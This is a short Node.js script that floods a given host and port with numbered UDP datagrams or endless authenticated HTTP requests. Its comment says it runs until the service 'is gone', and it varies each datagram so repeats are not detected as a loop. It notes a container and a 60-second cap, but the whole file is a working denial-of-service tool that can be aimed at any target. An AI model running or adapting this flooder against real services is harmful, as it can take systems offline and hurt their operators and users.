// Keeps a service busy until it is gone: udp HOST PORT, or http HOST PORT TOKEN. Runs in a container, 60 s at most.
import { createSocket } from 'node:dgram';

const [kind, host, port, token] = process.argv.slice(-4);
const DATAGRAMS_AT_ONCE = 20;
const REQUESTS_AT_ONCE = 4;
const PAUSE_MS = 20;
setTimeout(() => process.exit(0), 60_000).unref();

if (kind === 'udp') flood();
else await Promise.all(Array.from({ length: REQUESTS_AT_ONCE }, request));

function flood() {
  const socket = createSocket('udp4').on('error', () => {});
  let sent = 0;
  // Each says something else: equal ones in a row are taken for a loop.
  setInterval(() => {
    for (let i = 0; i < DATAGRAMS_AT_ONCE; i += 1) socket.send(`datagram ${(sent += 1)}`, Number(port), host);
  }, PAUSE_MS);
}

async function request() {
  for (;;) {
    try {
      await (await fetch(`http://${host}:${port}/`, { headers: { authorization: `Bearer ${token}` } })).text();
    } catch {
      return;
    }
  }
}
